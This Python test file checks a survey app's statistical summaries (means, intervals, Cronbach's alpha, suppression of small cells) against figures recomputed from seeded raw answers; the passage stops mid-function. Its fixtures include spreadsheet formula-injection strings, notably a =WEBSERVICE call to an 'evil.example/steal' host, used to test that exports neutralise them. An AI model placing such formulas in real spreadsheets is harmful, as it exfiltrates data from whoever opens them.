"""The summary as the database computes it, checked figure by figure against the raw answers.

Known answers are generated with a seeded numpy generator and stored through
`import_responses`, as a quality lead would import them. Every published figure of
`load_summary` is then recomputed here from those raw answers with numpy, scipy, statsmodels and
pingouin, never from the engine's aggregates; the survey's items, themes, options and codebooks
are read from its YAML file with `yaml`, not through the project's loader or the database.
"""

from __future__ import annotations

import csv
import io
import json
import math
import re
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any, NamedTuple

import numpy as np
import pandas as pd
import pingouin
import pytest
import yaml
from flask.testing import FlaskClient, FlaskCliRunner
from openpyxl import load_workbook
from scipy import stats
from sqlmodel import Session, select
from statsmodels.stats.proportion import proportion_confint

from reports.text_coding import ThemeRules
from survey_app.definitions import shipped_definition_paths
from survey_app.demo import build_demo
from survey_app.models import Answer, Organisation, Question, QuestionType, Response, Survey
from survey_app.reporting.summary_data import load_summary
from survey_app.services.organisations import organisation_by_code
from survey_app.services.responses import import_responses
from survey_app.services.surveys import survey_by_slug

#: TestConfig's SUPPRESSION_MIN_N, which the CLI and the API use too.
MIN_N = 5
ITEM_FIGURES = (
    "n",
    "missing",
    "counts",
    "mean",
    "sd",
    "median",
    "ci95",
    "percent_positive",
    "percent_positive_ci95",
    "net_agreement",
    "indicator",
)
THEME_FIGURES = ("n", "mean", "sd", "ci95", "alpha", "alpha_ci95")
ORG_LEVELS = ("region", "icb", "hub", "pcn", "practice")


# --- the survey definition, read from its YAML file -----------------------------------------


class LikertItem(NamedTuple):
    code: str
    text: str
    theme: str | None
    points: int


class Theme(NamedTuple):
    code: str
    title: str
    items: tuple[str, ...]


class TextTheme(NamedTuple):
    code: str
    label: str
    #: Whether an answer mentions the theme, as the definition's codebook decides.
    mentioned: Callable[[str], bool]


class TextQuestion(NamedTuple):
    code: str
    codebook: tuple[TextTheme, ...]


@dataclass(frozen=True)
class Definition:
    slug: str
    title: str
    items: tuple[LikertItem, ...]
    themes: tuple[Theme, ...]
    text_questions: tuple[TextQuestion, ...]
    #: Per choice question, its option labels by option code.
    options: dict[str, dict[str, str]]


def _text_theme(theme: dict) -> TextTheme:
    """A codebook theme as the file writes it: rules, or regular expressions."""
    if "patterns" in theme:
        patterns = tuple(theme["patterns"])
        return TextTheme(
            theme["code"],
            theme["label"],
            lambda text: any(re.search(p, text, re.IGNORECASE) for p in patterns),
        )
    rules = ThemeRules(
        theme["code"],
        theme["label"],
        tuple(theme["phrases"]),
        tuple(theme.get("exclude", ())),
        theme.get("negation", False),
    )
    return TextTheme(theme["code"], theme["label"], rules.is_mentioned_in)


def read_definition(slug: str, path: Path | None = None) -> Definition:
    """The definition of `slug`, read from its YAML file (the shipped one unless `path`):
    questions in file order, a question's theme defaulting to its section's, themes without
    Likert items left out."""
    if path is None:
        (path,) = [path for path in shipped_definition_paths() if path.stem == slug]
    document = yaml.safe_load(path.read_text(encoding="utf-8"))
    items: list[LikertItem] = []
    texts: list[TextQuestion] = []
    options: dict[str, dict[str, str]] = {}
    for section in document["sections"]:
        for question in section["questions"]:
            if question["type"] == "likert":
                theme = question.get("theme", section.get("theme"))
                points = len(document["scales"][question["scale"]])
                items.append(LikertItem(question["code"], question["text"], theme, points))
            elif question["type"] == "choice":
                options[question["code"]] = {o["code"]: o["label"] for o in question["options"]}
            else:
                shared = {theme["code"]: theme for theme in document.get("codebook", ())}
                codebook = tuple(
                    _text_theme(shared[theme] if isinstance(theme, str) else theme)
                    for theme in question.get("text_themes", ())
                )
                texts.append(TextQuestion(question["code"], codebook))
    themes = tuple(
        Theme(
            theme["code"], theme["title"], tuple(i.code for i in items if i.theme == theme["code"])
        )
        for theme in document["themes"]
    )
    return Definition(
        slug=document["slug"],
        title=document["title"],
        items=tuple(items),
        themes=tuple(theme for theme in themes if theme.items),
        text_questions=tuple(texts),
        options=options,
    )


PLACEMENT = read_definition("placement-quality")
ICB_LEADERS = read_definition("icb-leaders")
#: Every placement scale has five points: the exports have columns count_1 .. count_5.
POINTS = max(item.points for item in PLACEMENT.items)


# --- organisations and the known answers ------------------------------------------------------

WEALD_SURGERY = '=HYPERLINK("https://example.com/x","Weald Surgery")'
ORGANISATIONS = (
    ("H-EK", "East Kent Training Hub", "hub", "QKS"),
    ("H-WK", "West Kent Training Hub", "hub", "QKS"),
    ("H-BH", "Brighton and Hove Training Hub", "hub", "QNX"),
    ("H-GW", "Guildford and Waverley Training Hub", "hub", "QXU"),
    ("N-EK1", "Canterbury PCN", "pcn", "H-EK"),
    ("N-EK2", "Thanet Coastal PCN", "pcn", "H-EK"),
    ("N-WK1", "Sevenoaks PCN", "pcn", "H-WK"),
    ("N-BH1", "Hove PCN", "pcn", "H-BH"),
    ("N-GW1", "Farnham PCN", "pcn", "H-GW"),
    ("P-EK1", "Cathedral Surgery", "practice", "N-EK1"),
    ("P-EK2", "Harbour Surgery", "practice", "N-EK1"),
    ("P-EK3", "Margate Medical Centre", "practice", "N-EK2"),
    ("P-WK1", "Vine Surgery", "practice", "N-WK1"),
    # A name a spreadsheet would run as a formula: the exports must neutralise it.
    ("P-WK2", WEALD_SURGERY, "practice", "N-WK1"),
    ("P-BH1", "Hove Park Surgery", "practice", "N-BH1"),
    ("P-BH2", "Portslade Health Centre", "practice", "N-BH1"),
    ("P-GW1", "Farnham Family Practice", "practice", "N-GW1"),
    ("P-GW2", "Hale Surgery", "practice", "N-GW1"),
)
#: The reference ICBs the hubs sit under (survey_app/reference/icbs-2025.csv).
ICB_NAMES = {
    "QKS": "NHS Kent and Medway Integrated Care Board",
    "QNX": "NHS Sussex Integrated Care Board",
    "QXU": "NHS Surrey Heartlands Integrated Care Board",
}
ORG_NAMES = ICB_NAMES | {code: name for code, name, _, _ in ORGANISATIONS}
LEVEL_OF = dict.fromkeys(ICB_NAMES, "icb") | {code: level for code, _, level, _ in ORGANISATIONS}
PARENT_OF = {code: parent for code, _, _, parent in ORGANISATIONS}

#: Responses per organisation: P-EK2 and P-BH2 are under k; N-EK2 and H-WK are a PCN and a hub
#: taking learners themselves, so in scope of their ICB but in no practice group.
RESPONSES_AT = {
    "P-EK1": 24,
    "P-EK2": 3,
    "P-EK3": 9,
    "N-EK2": 4,
    "P-WK1": 18,
    "P-WK2": 7,
    "P-BH1": 20,
    "P-BH2": 4,
    "P-GW1": 15,
    "P-GW2": 10,
}
#: Added to every rating at the practice, so the flags have strong and weak groups to find.
PRACTICE_EFFECTS = {"P-WK1": 0.8, "P-BH1": 0.3, "P-EK3": -0.3, "P-GW2": -1.0}
COMMON_PROFESSIONS = {"gp-trainee": 0.4, "medical-student": 0.35, "student-nurse": 0.25}
RARE_PROFESSION = "paramedic"
MISSING_SHARE = 0.1
FORMULA_ANSWER = '=WEBSERVICE("https://evil.example/steal") and the IT login took weeks'
WORKED_WELL = (
    "My SUPERVISOR was always there between patients",
    "The team were friendly",
    "A wide range of patients",
    "Weekly tutorials and feedback on my consultations",
    "Good placement overall",
    "Different cases every day, and my GP trainer debriefed me",
    "   ",
)
COULD_BE_BETTER = (
    "There was no room free for me",
    "My IT login took three weeks",
    "it would help to have more time",
    "A proper induction",
    "Supervisors were too busy",
    "Parking was difficult",
    "Nothing",
)


def ancestor(code: str, level: str) -> str | None:
    """The organisation at `level` that `code` is or lies under, from the tuples above."""
    current: str | None = code
    while current is not None:
        if LEVEL_OF.get(current) == level:
            return current
        current = PARENT_OF.get(current)
    return None


@dataclass(frozen=True)
class KnownAnswers:
    """The raw answers stored, one entry per response in import order."""

    #: The organisation code of each response.
    places: np.ndarray
    #: Per choice question, the option code chosen (None: unanswered).
    choices: dict[str, np.ndarray]
    #: Per Likert item, the scale value (nan: unanswered).
    ratings: dict[str, np.ndarray]
    #: Per text question, the answer as written ("" or blanks: unanswered).
    texts: dict[str, np.ndarray]

    def __len__(self) -> int:
        return len(self.places)

    def where(self, mask: np.ndarray) -> KnownAnswers:
        """The responses `mask` selects."""
        return KnownAnswers(
            places=self.places[mask],
            choices={code: column[mask] for code, column in self.choices.items()},
            ratings={code: column[mask] for code, column in self.ratings.items()},
            texts={code: column[mask] for code, column in self.texts.items()},
        )

    def to_csv(self) -> str:
        """The answers in the import-responses CSV format."""
        columns = {**self.choices, **self.ratings, **self.texts}
        buffer = io.StringIO()
        writer = csv.writer(buffer)
        writer.writerow(["org_code", *columns])
        for index, place in enumerate(self.places):
            cells = [_csv_cell(column[index]) for column in columns.values()]
            writer.writerow([place, *cells])
        return buffer.getvalue()


def _csv_cell(value: object) -> str:
    if value is None:
        return ""
    if isinstance(value, float):
        return "" if math.isnan(value) else str(int(value))
    return str(value)


def generate_answers(definition: Definition, seed: int = 2026) -> KnownAnswers:
    """Answers at every organisation of RESPONSES_AT, with missing answers, items of a theme
    that move together, and a few cells made to test the suppression and interval rules."""
    rng = np.random.default_rng(seed)
    places = np.array([code for code, count in RESPONSES_AT.items() for _ in range(count)], object)
    size = len(places)
    professions = rng.choice(
        list(COMMON_PROFESSIONS), size=size, p=list(COMMON_PROFESSIONS.values())
    ).astype(object)
    professions[rng.choice(size, 3, replace=False)] = RARE_PROFESSION
    stages = rng.choice(list(definition.options["stage"]), size=size).astype(object)
    lengths = rng.choice(list(definition.options["length"]), size=size).astype(object)
    lengths[rng.random(size) < 0.15] = None

    view = rng.normal(0, 0.6, size) + np.array([PRACTICE_EFFECTS.get(p, 0.0) for p in places])
    theme_view = {theme.code: rng.normal(0, 0.4, size) for theme in definition.themes}
    ratings: dict[str, np.ndarray] = {}
    for item in definition.items:
        latent = view + (theme_view[item.theme] if item.theme else 0.0)
        values = np.clip(np.rint(3.7 + latent + rng.normal(0, 0.6, size)), 1, item.points)
        if item.code != "overall":  # the one required Likert item
            values[rng.random(size) < MISSING_SHARE] = np.nan
        ratings[item.code] = values

    hubs = np.array([ancestor(place, "hub") for place in places], object)
    # One hub answers an item too rarely to publish, another the one-item career theme: each
    # is then the only hub withheld for it, which is what secondary suppression is for.
    _keep_only(ratings["fac_study"], hubs == "H-BH", 3)
    _keep_only(ratings["car_consider"], hubs == "H-GW", 4)
    # Everyone at one practice strongly agrees: sd 0, an interval of width 0, Wilson at 100%.
    sup_named = ratings["sup_named"]
    sup_named[(places == "P-WK2") & ~np.isnan(sup_named)] = 5

    texts = {
        "worked_well": _some_phrases(rng, WORKED_WELL, size, answered=0.7),
        "could_be_better": _some_phrases(rng, COULD_BE_BETTER, size, answered=0.6),
    }
    texts["could_be_better"][0] = FORMULA_ANSWER
    return KnownAnswers(
        places=places,
        choices={"profession": professions, "stage": stages, "length": lengths},
        ratings=ratings,
        texts=texts,
    )


def _keep_only(values: np.ndarray, mask: np.ndarray, keep: int) -> None:
    answered = np.flatnonzero(mask & ~np.isnan(values))
    values[answered[keep:]] = np.nan


def _some_phrases(
    rng: np.random.Generator, phrases: tuple[str, ...], size: int, answered: float
) -> np.ndarray:
    chosen = rng.choice(np.array(phrases, object), size=size)
    chosen[rng.random(size) >= answered] = ""
    return chosen


# --- the expected summary, from the raw answers -----------------------------------------------


class Scope(NamedTuple):
    code: str
    name: str
    level: str


def scope_of(organisation: Organisation | None) -> Scope | None:
    if organisation is None:
        return None
    return Scope(organisation.code, organisation.name, organisation.level.value)


def answered(values: np.ndarray) -> np.ndarray:
    return values[~np.isnan(values)]


def t_interval(mean: float, sd: float, n: int) -> list[float]:
    if sd == 0:
        return [mean, mean]
    low, high = stats.t.interval(0.95, n - 1, loc=mean, scale=sd / math.sqrt(n))
    return [float(low), float(high)]


def item_figures(item: LikertItem, values: np.ndarray, responses: int) -> dict[str, Any]:
    """Every statistic of one item over a cell's answers (nan: unanswered), as the spec
    defines it; only called for cells of at least k answers, which is all that is published."""
    answers = answered(values)
    n = answers.size
    positive = int(np.sum(answers >= item.points - 1))
    negative = int(np.sum(answers <= 2))
    mean = float(np.mean(answers))
    sd = float(np.std(answers, ddof=1))
    wilson_low, wilson_high = proportion_confint(positive, n, alpha=0.05, method="wilson")
    return {
        "n": n,
        "missing": responses - n,
        "counts": {str(v): int(np.sum(answers == v)) for v in range(1, item.points + 1)},
        "mean": mean,
        "sd": sd,
        "median": float(np.median(answers)),
        "ci95": t_interval(mean, sd, n),
        "percent_positive": 100 * positive / n,
        "percent_positive_ci95": [100 * float(wilson_low), 100 * float(wilson_high)],
        "net_agreement": 100 * (positive - negative) / n,
        "indicator": 100 * (mean - 1) / (item.points - 1),
    }


def item_row(
    item: LikertItem, values: np.ndarray, responses: int, withheld: bool
) -> dict[str, Any]:
    n = answered(values).size
    if withheld:
        figures = dict.fromkeys(ITEM_FIGURES)
    elif n == 0:
        # No answers: published as such (n 0, zero counts, no statistics).
        figures = dict.fromkeys(ITEM_FIGURES) | {
            "n": 0,
            "missing": responses,
            "counts": {str(v): 0 for v in range(1, item.points + 1)},
        }
    else:
        figures = item_figures(item, values, responses)
    return {
        "code": item.code,
        "text": item.text,
        "theme": item.theme,
        **figures,
        "suppressed": withheld,
    }


def theme_matrix(cell: KnownAnswers, theme: Theme) -> np.ndarray:
    return np.column_stack([cell.ratings[code] for code in theme.items])


def theme_scores(matrix: np.ndarray) -> np.ndarray:
    """Each respondent's mean of their answered items, if they answered ceil(m/2) of them."""
    m = matrix.shape[1]
    enough = (~np.isnan(matrix)).sum(axis=1) >= math.ceil(m / 2)
    return np.nanmean(matrix[enough], axis=1)


def theme_figures(matrix: np.ndarray) -> dict[str, Any]:
    """n, mean, sd and ci95 over theme scores; alpha (pingouin) and Feldt's interval over the
    listwise-complete respondents. Only called for cells of at least k theme scores."""
    scores = theme_scores(matrix)
    n = scores.size
    # math.fsum: the correctly rounded mean, so a tie with a quartile is decided exactly.
    mean = math.fsum(scores.tolist()) / n
    sd = float(np.std(scores, ddof=1))
    complete = matrix[~np.isnan(matrix).any(axis=1)]
    n_complete, m = complete.shape
    alpha = alpha_ci95 = None
    # Alpha rests on the complete respondents only; fewer than k of them is a small cell.
    if m >= 2 and n_complete >= max(3, MIN_N) and np.var(complete.sum(axis=1)) > 0:
        alpha, _ = pingouin.cronbach_alpha(data=pd.DataFrame(complete))
        alpha = float(alpha)
        df_between, df_within = n_complete - 1, (n_complete - 1) * (m - 1)
        alpha_ci95 = [
            1 - (1 - alpha) * float(stats.f.isf(0.025, df_between, df_within)),
            1 - (1 - alpha) * float(stats.f.isf(0.975, df_between, df_within)),
        ]
    return {
        "n": n,
        "mean": mean,
        "sd": sd,
        "ci95": t_interval(mean, sd, n),
        "alpha": alpha,
        "alpha_ci95": alpha_ci95,
    }


def theme_row(theme: Theme, matrix: np.ndarray, withheld: bool) -> dict[str, Any]:
    if withheld:
        figures = dict.fromkeys(THEME_FIGURES)
    elif theme_scores(matrix).size == 0:
        figures = dict.fromkeys(THEME_FIGURES) | {"n": 0}
    else:
        figures = theme_figures(matrix)
    return {"code": theme.code, "title": theme.title, **figures, "suppressed": withheld}


def free_text_rows(
    definition: Definition,
    texts: Mapping[str, list[str]],
    responses: int,
    pattern: Pattern,
) -> list[dict[str, Any]]:
    """Per text question: answers with content, and per codebook theme the answers that
    mention it out of every response in scope; withheld as the pattern says, which must
    withhold every count in 1..k-1."""
    rows = []
    for question in definition.text_questions:
        answers = [text for text in texts.get(question.code, []) if text and text.strip()]
        if pattern.responses_withheld:
            # Every share is a count over the withheld responses: all of the question goes,
            # each count of k or more withheld to protect others.
            counts = [
                len(answers),
                *(sum(map(theme.mentioned, answers)) for theme in question.codebook),
            ]
            pattern.secondary += sum(1 for count in counts if count >= MIN_N)
            hidden_themes = [
                dict.fromkeys(("mentions", "of", "percent"))
                | {"code": theme.code, "label": theme.label, "suppressed": True}
                for theme in question.codebook
            ]
            rows.append({"question": question.code, "answered": None, "themes": hidden_themes})
            continue
        withheld = pattern.check(("text", question.code), len(answers))
        themes = []
        for theme in question.codebook:
            count = sum(1 for text in answers if theme.mentioned(text))
            if withheld:
                # The question's answers withheld withhold its themes' mentions with them.
                hidden = True
                pattern.secondary += count >= MIN_N
            else:
                hidden = pattern.check(("mentions", question.code, theme.code), count)
            themes.append(
                {
                    "code": theme.code,
                    "label": theme.label,
                    "mentions": None if hidden else count,
                    "of": None if pattern.responses_withheld else responses,
                    "percent": None if hidden else 100 * count / responses,
                    "suppressed": hidden,
                }
            )
        rows.append(
            {
                "question": question.code,
                "answered": None if withheld else len(answers),
                "themes": themes,
            }
        )
    return rows


def text_theme_rows(
    definition: Definition,
    by_response: list[list[str]],
    responses: int,
    responses_withheld: bool = False,
) -> list[dict[str, Any]]:
    """Per codebook theme across the text questions: the responses (each a list of its text
    answers) with an answer mentioning it, of every response in scope and of those that wrote
    anything; a count in 1..k-1 withheld, and every theme with the writers."""
    themes: dict[str, TextTheme] = {}
    for question in definition.text_questions:
        for theme in question.codebook:
            themes.setdefault(theme.code, theme)
    wrote = [[t for t in texts if t and t.strip()] for texts in by_response]
    writers = sum(1 for texts in wrote if texts)
    few = 0 < writers < MIN_N
    rows = []
    for theme in themes.values():
        count = sum(1 for texts in wrote if any(theme.mentioned(text) for text in texts))
        withheld = few or 0 < count < MIN_N or responses_withheld
        rows.append(
            {
                "code": theme.code,
                "label": theme.label,
                "respondents": None if withheld else count,
                "of": None if responses_withheld else responses,
                "of_answered": None if few or responses_withheld else writers,
                "percent": None if withheld else 100 * count / responses,
                "suppressed": withheld,
            }
        )
    return rows


class Pattern:
    """Which cells the summary under test withholds: the engine decides that over the whole
    hierarchy (its guarantee is checked by attack in tests/test_disclosure_attack.py); here
    each cell's state is read from the summary and checked against the primary rule (a count
    in 1..k-1 is always withheld, a count of 0 never), and every published figure is then
    recomputed from the raw answers. ``secondary`` counts the withheld cells of k or more."""

    def __init__(self, actual: Mapping[str, Any]) -> None:
        self.states: dict[tuple[str, ...], bool] = {}
        self.responses_withheld = actual["responses"] is None
        for row in actual["items"]:
            self.states[("item", row["code"])] = row["suppressed"]
        for row in actual["themes"]:
            self.states[("theme", row["code"])] = row["suppressed"]
        for question in actual["free_text"]:
            self.states[("text", question["question"])] = question["answered"] is None
            for theme in question["themes"]:
                key = ("mentions", question["question"], theme["code"])
                self.states[key] = theme["suppressed"]
        for group in actual["groups"]:
            key = group["key"]
            self.states[("responses", key)] = group["responses"] is None
            for row in group["items"]:
                self.states[("item", row["code"], key)] = row["suppressed"]
            for row in group["themes"]:
                self.states[("theme", row["code"], key)] = row["suppressed"]
        self.secondary = 0

    def check(self, cell: tuple[str, ...], n: int) -> bool:
        """The state of `cell` (n answers) in the summary, after checking the primary rule."""
        withheld = self.states[cell]
        if 0 < n < MIN_N:
            assert withheld, f"{cell}: {n} answers published"
        if n == 0:
            assert not withheld, f"{cell}: zero answers withheld"
        if withheld and n >= MIN_N:
            self.secondary += 1
        return withheld


def withheld_groups(
    answers: Mapping[str, int], too_small: set[str], scope_published: bool, scope_n: int
) -> set[str]:
    """Primary suppression (under k answers, or a group under k responses), then secondary:
    when exactly one cell is withheld and the scope is published, also the other group with
    the fewest answers (ties: the first key). The scope's answers in no group count as one
    withheld cell when they number 1 to k - 1 (methodology: "answers in no group")."""
    withheld = {key for key, n in answers.items() if n < MIN_N or key in too_small}
    others = sorted((n, key) for key, n in answers.items() if key not in withheld)
    remainder = scope_n - sum(answers.values())
    cells = len(withheld) + (1 if 0 < remainder < MIN_N else 0)
    if cells == 1 and scope_published and others:
        withheld.add(others[0][1])
    return withheld


def flags(rows: Mapping[str, Mapping[str, Any]], benchmark: float | None) -> dict[str, str]:
    """The outlier flag of each compared group from its mean and ci95 (spec: Outlier flags)."""
    if len(rows) < 4:
        return dict.fromkeys(rows, "none")
    q1, q3 = np.percentile([row["mean"] for row in rows.values()], [25, 75])
    result = {}
    for key, row in rows.items():
        low, high = row["ci95"]
        if row["mean"] <= q1:
            result[key] = "red" if benchmark is not None and high < benchmark else "pink"
        elif row["mean"] >= q3:
            result[key] = "green" if benchmark is not None and low > benchmark else "light-green"
        else:
            result[key] = "none"
    return result


def group_keys(cell: KnownAnswers, by: str) -> np.ndarray:
    if by in ORG_LEVELS:
        return np.array([ancestor(place, by) for place in cell.places], object)
    return cell.choices[by]


def group_label(by: str, key: str) -> str:
    return ORG_NAMES[key] if by in ORG_LEVELS else PLACEMENT.options[by][key]


def expected_breakdown(
    definition: Definition,
    cell: KnownAnswers,
    by: str,
    scope_items: Mapping[str, dict[str, Any]],
    scope_themes: Mapping[str, dict[str, Any]],
    pattern: Pattern,
) -> tuple[list[dict[str, Any]], list[dict[str, Any]]]:
    """The groups and comparisons of one breakdown of `cell`."""
    keys = group_keys(cell, by)
    groups = {key: cell.where(keys == key) for key in sorted({k for k in keys if k is not None})}
    too_small = {key for key, group in groups.items() if len(group) < MIN_N}
    item_rows: dict[str, list[dict[str, Any]]] = {key: [] for key in groups}
    theme_rows: dict[str, list[dict[str, Any]]] = {key: [] for key in groups}
    comparisons = []
    for item in definition.items:
        answers = {key: answered(group.ratings[item.code]) for key, group in groups.items()}
        scope = scope_items[item.code]
        withheld = {
            key
            for key, values in answers.items()
            if key in too_small or pattern.check(("item", item.code, key), values.size)
        }
        rows = {
            key: item_row(item, group.ratings[item.code], len(group), key in withheld)
            for key, group in groups.items()
        }
        compared = [key for key in groups if key not in withheld and answers[key].size]
        item_flags = flags({key: rows[key] for key in compared}, scope["mean"])
        for key, row in rows.items():
            # A published cell of no answers is flagged "none".
            flag = item_flags.get(key, None if key in withheld else "none")
            item_rows[key].append({**row, "flag": flag})
        if len(compared) >= 2:
            statistic, p = stats.kruskal(*(answers[key] for key in compared))
            total = sum(answers[key].size for key in compared)
            comparisons.append(
                {
                    "item": item.code,
                    "test": "kruskal",
                    "groups_compared": len(compared),
                    "statistic": float(statistic),
                    "p": float(p),
                    "p_adjusted": None,
                    "effect_size": float(statistic) / (total - 1),
                }
            )
    if comparisons:
        adjusted = stats.false_discovery_control([c["p"] for c in comparisons])
        for comparison, p_adjusted in zip(comparisons, adjusted, strict=True):
            comparison["p_adjusted"] = float(p_adjusted)
    for theme in definition.themes:
        matrices = {key: theme_matrix(group, theme) for key, group in groups.items()}
        scope = scope_themes[theme.code]
        withheld = {
            key
            for key, matrix in matrices.items()
            if key in too_small
            or pattern.check(("theme", theme.code, key), theme_scores(matrix).size)
        }
        rows = {key: theme_row(theme, matrices[key], key in withheld) for key in groups}
        compared = {key: rows[key] for key in groups if key not in withheld and rows[key]["n"]}
        theme_flags = flags(compared, scope["mean"])
        for key, row in rows.items():
            flag = theme_flags.get(key, None if key in withheld else "none")
            theme_rows[key].append({**row, "flag": flag})

    group_rows = []
    for key, group in groups.items():
        row = {"key": key, "label": group_label(by, key)}
        if key in too_small:
            row |= {"responses": None, "suppressed": True, "items": [], "themes": []}
        else:
            hidden = pattern.check(("responses", key), len(group))
            row |= {"responses": None if hidden else len(group), "suppressed": False}
            row |= {"items": item_rows[key], "themes": theme_rows[key]}
        group_rows.append(row)
    return group_rows, comparisons


def expected_wave_items(
    definition: Definition,
    previous: Mapping[str, np.ndarray],
    current: Mapping[str, np.ndarray],
) -> list[dict[str, Any]]:
    """The rows of ``"wave_comparison"["items"]``, from each wave's raw answers per item
    code (nan: unanswered) alone: numpy for the figures, scipy's Mann-Whitney U on the raw
    answers and its Benjamini-Hochberg across the statements tested."""
    rows: list[dict[str, Any]] = []
    for item in definition.items:
        before, now = answered(previous[item.code]), answered(current[item.code])
        row: dict[str, Any] = {"item": item.code, "text": item.text, "theme": item.theme}
        if before.size < MIN_N or now.size < MIN_N:
            hidden = {"n": None, "mean": None, "percent_positive": None}
            rows.append(
                row
                | {"previous": hidden, "current": dict(hidden)}
                | dict.fromkeys(("change_mean", "change_percent_positive"))
                | {"test": "mann-whitney"}
                | dict.fromkeys(("statistic", "p", "p_adjusted", "effect_size"))
                | {"suppressed": True}
            )
            continue
        waves = {}
        for name, answers in (("previous", before), ("current", now)):
            waves[name] = {
                "n": answers.size,
                "mean": float(np.mean(answers)),
                "percent_positive": 100 * int(np.sum(answers >= item.points - 1)) / answers.size,
            }
        test = stats.mannwhitneyu(now, before, alternative="two-sided", method="asymptotic")
        # One value throughout both waves: no test (scipy says p = 1, the spec null).
        constant = np.unique(np.concatenate([before, now])).size == 1
        rows.append(
            row
            | waves
            | {
                "change_mean": waves["current"]["mean"] - waves["previous"]["mean"],
                "change_percent_positive": waves["current"]["percent_positive"]
                - waves["previous"]["percent_positive"],
                "test": "mann-whitney",
                "statistic": float(test.statistic),
                "p": None if constant else float(test.pvalue),
                "p_adjusted": None,
                "effect_size": 2 * float(test.statistic) / (before.size * now.size) - 1,
                "suppressed": False,
            }
        )
    tested = [row for row in rows if row["p"] is not None]
    if tested:
        adjusted = stats.false_discovery_control([row["p"] for row in tested])
        for row, p_adjusted in zip(tested, adjusted.tolist(), strict=True):
            row["p_adjusted"] = float(p_adjusted)
    return rows


def in_scope(known: KnownAnswers, scope: Scope | None) -> KnownAnswers:
    """The responses of `known` about `scope` or what lies under it (all for England)."""
    if scope is None:
        return known
    inside = [ancestor(place, scope.level) == scope.code for place in known.places]
    return known.where(np.array(inside, dtype=bool))


def expected_summary(
    definition: Definition,
    known: KnownAnswers,
    scope: Scope | None,
    by: str | None,
    actual: Mapping[str, Any],
    wave: tuple[int, str] = (1, "Wave 1"),
    previous: tuple[KnownAnswers, tuple[int, str]] | None = None,
) -> dict[str, Any]:
    """The summary JSON of `definition` for `scope` and `by`, from the raw answers alone,
    which are those of `wave` (number, name): a survey's first wave unless told. Which cells
    are withheld is read from `actual`, the summary under test, and checked against the
    primary rule (`Pattern`). `previous` gives the previous wave's answers, number and name,
    compared with `known` over the whole scope; None: no previous wave."""
    pattern = Pattern(actual)
    cell = in_scope(known, scope)
    responses = len(cell)
    scope_items = {}
    for item in definition.items:
        withheld = pattern.check(("item", item.code), answered(cell.ratings[item.code]).size)
        scope_items[item.code] = item_row(item, cell.ratings[item.code], responses, withheld)
    scope_themes = {}
    for theme in definition.themes:
        matrix = theme_matrix(cell, theme)
        withheld = pattern.check(("theme", theme.code), theme_scores(matrix).size)
        scope_themes[theme.code] = theme_row(theme, matrix, withheld)
    groups, comparisons = (
        expected_breakdown(definition, cell, by, scope_items, scope_themes, pattern)
        if by
        else ([], [])
    )
    texts = {code: list(column) for code, column in cell.texts.items()}
    free_text = free_text_rows(definition, texts, responses, pattern)
    if 0 < responses < MIN_N:
        assert pattern.responses_withheld, f"{responses} responses published"
    return {
        "survey": {"slug": definition.slug, "title": definition.title},
        "wave": {"number": wave[0], "name": wave[1]},
        "scope": None if scope is None else scope._asdict(),
        "suppression_min_n": MIN_N,
        "responses": None if pattern.responses_withheld else responses,
        "secondary_suppressed": pattern.secondary
        + (1 if pattern.responses_withheld and responses >= MIN_N else 0),
        "items": list(scope_items.values()),
        "themes": list(scope_themes.values()),
        "free_text": free_text,
        "text_themes": text_theme_rows(
            definition,
            [list(answers) for answers in zip(*texts.values(), strict=True)],
            responses,
            pattern.responses_withheld,
        ),
        "by": by,
        "groups": groups,
        "comparisons": comparisons,
        "wave_comparison": None
        if previous is None
        else {
            "previous_wave": {"number": previous[1][0], "name": previous[1][1]},
            "items": expected_wave_items(
                definition, in_scope(previous[0], scope).ratings, cell.ratings
            ),
        },
    }


def assert_same(actual: Any, expected: Any, where: str = "summary") -> None:
    """Fail at the first place `actual` differs from `expected`, naming its path; floats agree
    to 1e-9 (relative) and every other value exactly, type included."""
    if isinstance(expected, dict):
        assert isinstance(actual, dict), f"{where}: {actual!r} is not an object"
        assert actual.keys() == expected.keys(), f"{where}: keys {sorted(actual)}"
        for key, value in expected.items():
            assert_same(actual[key], value, f"{where}.{key}")
    elif isinstance(expected, list):
        assert isinstance(actual, list), f"{where}: {actual!r} is not a list"
        assert len(actual) == len(expected), f"{where}: {actual!r} != {expected!r}"
        for index, (got, wanted) in enumerate(zip(actual, expected, strict=True)):
            name = index
            if isinstance(wanted, dict):
                named_by = ("key", "code", "item", "question")
                name = next((wanted[key] for key in named_by if key in wanted), index)
            assert_same(got, wanted, f"{where}[{name}]")
    elif isinstance(expected, float):
        assert type(actual) is float, f"{where}: {actual!r} is not a float"
        assert math.isclose(actual, expected, rel_tol=1e-9, abs_tol=1e-12), (
            f"{where}: {actual!r} != {expected!r}"
        )
    else:
        assert type(actual) is type(expected), f"{where}: {actual!r} != {expected!r}"
        assert actual == expected, f"{where}: {actual!r} != {expected!r}"


# --- fixtures ----------------------------------------------------------------------------------


@pytest.fixture
def known(
    db_session: Session,
    surveys: dict[str, Survey],
    make_orgs: Callable[..., dict[str, Organisation]],
) -> KnownAnswers:
    """The generated answers, stored through import_responses under ORGANISATIONS."""
    make_orgs(*ORGANISATIONS)
    answers = generate_answers(PLACEMENT)
    report = import_responses(
        db_session, surveys["placement-quality"], answers.to_csv(), "known.csv", max_text=5000
    )
    assert report.imported == len(answers)
    return answers


def summarise(session: Session, scope_code: str | None, by: str | None) -> dict[str, Any]:
    survey = survey_by_slug(session, "placement-quality")
    assert survey is not None
    scope = organisation_by_code(session, scope_code) if scope_code else None
    return load_summary(session, survey, scope, by, MIN_N)


# --- 1. the summary against the raw answers ---------------------------------------------------


#: (scope code, by): England, ICB, hub, PCN and practice scopes; levels and choice questions.
SUMMARY_CASES = (
    (None, None),
    (None, "icb"),
    (None, "hub"),
    (None, "pcn"),
    (None, "practice"),
    (None, "profession"),
    (None, "length"),
    ("QKS", None),
    ("QKS", "practice"),
    ("QKS", "profession"),
    ("H-EK", "pcn"),
    ("H-EK", "practice"),
    ("N-EK2", "practice"),
    ("P-EK1", None),
)


def test_every_published_figure_matches_the_raw_answers(
    known: KnownAnswers, db_session: Session, subtests: pytest.Subtests
) -> None:
    for scope_code, by in SUMMARY_CASES:
        with subtests.test(scope=scope_code, by=by):
            summary = summarise(db_session, scope_code, by)
            scope = scope_of(organisation_by_code(db_session, scope_code) if scope_code else None)
